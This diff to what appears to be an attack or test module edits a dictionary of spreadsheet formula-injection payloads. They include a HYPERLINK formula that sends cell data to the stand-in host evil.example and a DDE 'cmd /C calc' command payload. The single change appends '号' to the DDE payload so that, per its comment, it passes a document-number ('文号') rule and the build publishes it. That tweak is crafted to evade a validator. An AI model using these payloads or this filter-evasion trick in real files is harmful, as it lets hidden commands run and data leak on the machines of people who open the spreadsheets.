@@ -15,7 +15,7 @@ from .attempt import attempt
 
 FORMULAS = {
     "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
-    "doc_no": "+1+cmd|' /C calc'!A0",
+    "doc_no": "+1+cmd|' /C calc'!A0号",  # ends in 号, so the 文号 rule lets the build publish it
     "summary": "-2+3 的概述",
     "keywords": "@SUM(1+1)",
 }
